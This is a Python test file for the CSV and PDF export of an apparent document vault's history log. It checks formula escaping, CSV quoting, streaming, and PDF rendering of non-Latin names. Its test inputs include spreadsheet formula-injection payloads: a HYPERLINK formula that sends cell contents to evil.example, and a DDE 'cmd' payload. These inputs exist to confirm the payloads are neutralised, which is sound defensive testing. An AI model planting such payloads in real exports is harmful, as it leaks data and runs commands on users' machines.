"""The history's CSV and PDF: safe in a spreadsheet, every name rendered."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pypdf
import pytest

from idp_bridge.history.entries import Entry
from idp_bridge.history.exports import (
    HistoryReport,
    csv_headings,
    csv_line,
    history_csv,
    history_pdf,
    spreadsheet_safe,
)

BRUSSELS = ZoneInfo("Europe/Brussels")


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "＝1+1",
    ],
)
def test_a_formula_becomes_text(cell):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "Eigendomsakte.pdf", "2025-03-01 10:00:00+01:00", "::1"])
def test_ordinary_cells_are_left_alone(cell):
    assert spreadsheet_safe(cell) == cell


def test_csv_quotes_every_field_and_reads_back():
    cells = ['Zoë "Zo" Dubois-Ørsted', "a,b", "two\nlines", "=1+1"]
    line = csv_line(cells)
    assert line.endswith("\r\n")
    assert next(csv.reader(io.StringIO(line))) == [*cells[:3], "'=1+1"]


def entry(n: int, on_what: str = "Müller.pdf", who: str = "Zoë Dubois-Ørsted") -> Entry:
    return Entry(
        seq=n,
        action="vault:document:uploaded",
        kind="documents",
        at=datetime(2025, 3, 1, 9, n % 60, tzinfo=UTC).astimezone(BRUSSELS),
        kind_label="Documents",
        what="Document stored",
        who=who,
        on_what=on_what,
        ip="127.0.0.1",
        detail="",
    )


async def test_csv_streams_a_header_and_one_row_per_entry():
    async def entries():
        for n in range(450):
            yield entry(n, on_what=f'=HYPERLINK("x") {n}' if n == 7 else f"doc {n}.pdf")

    pieces = [piece async for piece in history_csv(entries())]
    text = b"".join(pieces).decode()
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))

    assert text.startswith("\ufeff")  # spreadsheets read UTF-8 only with it
    assert len(pieces) > 2  # in batches, not one buffer
    assert rows[0] == csv_headings()
    assert len(rows) == 451
    assert rows[1][0] == "2025-03-01 10:00:00+01:00"
    assert rows[1][3:5] == ["Zoë Dubois-Ørsted", "doc 0.pdf"]
    assert rows[8][4] == '\'=HYPERLINK("x") 7'
    assert rows[1][7] == "vault:document:uploaded"


def report(entries: list[Entry], **fields: object) -> HistoryReport:
    values: dict[str, object] = {
        "language": "en",
        "title": "Kluis — History",
        "facts": [("Name", "Zoë Dubois-Ørsted"), ("Period", "the whole history")],
        "chain_intact": True,
        "chain_text": "The history is intact (verified)",
        "headings": ["When", "Kind", "What", "Who", "On what", "From", "Details"],
        "entries": entries,
        "notice": None,
        "empty_text": "No entries match these filters.",
        "page_text": "Page %(page)s of %(pages)s",
    }
    values.update(fields)
    return HistoryReport(**values)


def pdf_pages(data: bytes) -> list[str]:
    return [page.extract_text() for page in pypdf.PdfReader(io.BytesIO(data)).pages]


def test_pdf_renders_names_beyond_latin1_and_repeats_headings_on_every_page():
    long_name = "Akte van verdeling " * 12 + ".pdf"
    rows = [entry(n, on_what=long_name if n == 3 else "Müller.pdf") for n in range(120)]
    pages = pdf_pages(history_pdf(report(rows)))

    assert len(pages) > 1
    assert "Zoë Dubois-Ørsted" in pages[0] and "Müller.pdf" in pages[0]
    assert "The history is intact (verified)" in pages[0]
    assert all("When" in page and "On what" in page for page in pages)
    assert pages[-1].strip().endswith(f"Page {len(pages)} of {len(pages)}")
    assert "Akte van verdeling Akte" in pages[0]  # wrapped in its column, not cut off


def test_pdf_says_when_the_history_does_not_verify_and_when_it_is_cut_short():
    pages = pdf_pages(
        history_pdf(
            report(
                [],
                chain_intact=False,
                chain_text="The history has been tampered with",
                notice="This file holds the newest 0 of 5 entries.",
            )
        )
    )
    assert "The history has been tampered with" in pages[0]
    assert "newest 0 of 5" in pages[0]
    assert "No entries match these filters." in pages[0]


def test_pdf_survives_characters_the_font_lacks():
    data = history_pdf(report([entry(1, on_what="Foto 📷 日本.jpg")]))
    assert data.startswith(b"%PDF")
